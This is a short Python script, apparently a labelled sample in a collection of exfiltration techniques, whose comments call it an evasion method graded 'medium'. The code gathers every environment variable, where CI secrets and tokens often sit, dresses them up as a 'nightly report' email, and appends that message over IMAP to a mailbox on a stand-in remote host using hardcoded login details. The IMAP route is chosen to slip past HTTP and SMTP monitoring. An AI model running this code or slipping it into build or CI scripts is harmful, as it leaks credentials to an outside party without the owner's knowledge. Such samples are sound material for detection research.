# evasion: the environment is appended as a mail message to a remote IMAP mailbox (imaplib APPEND), no HTTP or SMTP
# grade: medium; does: exfil
import imaplib
import os
import time
from email.message import EmailMessage

msg = EmailMessage()
msg["Subject"] = "nightly report"
msg["From"] = "ci@example.net"
msg.set_content("\n".join(f"{k}={v}" for k, v in os.environ.items()))

box = imaplib.IMAP4_SSL("imap.example.net")
box.login("drop@example.net", "hunter2")
box.append("INBOX", None, imaplib.Time2Internaldate(time.time()), msg.as_bytes())
box.logout()
